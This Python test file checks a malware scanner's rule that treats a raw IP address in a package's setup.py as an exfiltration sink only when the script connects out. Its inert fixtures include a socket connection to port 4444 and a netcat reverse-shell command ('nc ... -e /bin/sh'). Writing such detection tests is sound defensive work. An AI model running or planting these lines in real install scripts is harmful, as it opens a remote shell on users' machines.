"""Rules 25: a raw IP address in a setup script is a sink only where the script may connect
to something (a four-part version such as ``1.0.0.1`` reads as an address too).

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import pkg_info, sdist
from tests.support.scan import judge


def _setup(body: str) -> dict[str, float]:
    files = {
        "setup.py": f"from setuptools import setup\n{body}",
        "PKG-INFO": pkg_info("demo", version="1.0.0.1"),
        "demo/__init__.py": "def run():\n    return 1\n",
    }
    rules, _held = judge(sdist(files, root="demo-1.0.0.1"), "demo-1.0.0.1.tar.gz")
    return rules


def test_a_version_that_reads_as_an_address_is_no_sink() -> None:
    rules = _setup("setup(name='demo', version='1.0.0.1', packages=['demo'])\n")
    assert "exfil-sink" not in rules


@pytest.mark.parametrize(
    "body",
    [
        "import socket\ns = socket.socket()\ns.connect(('93.184.216.34', 4444))\n"
        "setup(name='demo', version='1.0.0.1')\n",
        "import os\nos.system('nc 93.184.216.34 4444 -e /bin/sh')\n"
        "HOST = '93.184.216.34'\nsetup(name='demo', version='1.0.0.1')\n",
    ],
    ids=["socket", "process"],
)
def test_an_address_beside_a_connection_or_a_process_is_a_sink(body: str) -> None:
    assert "exfil-sink" in _setup(body)
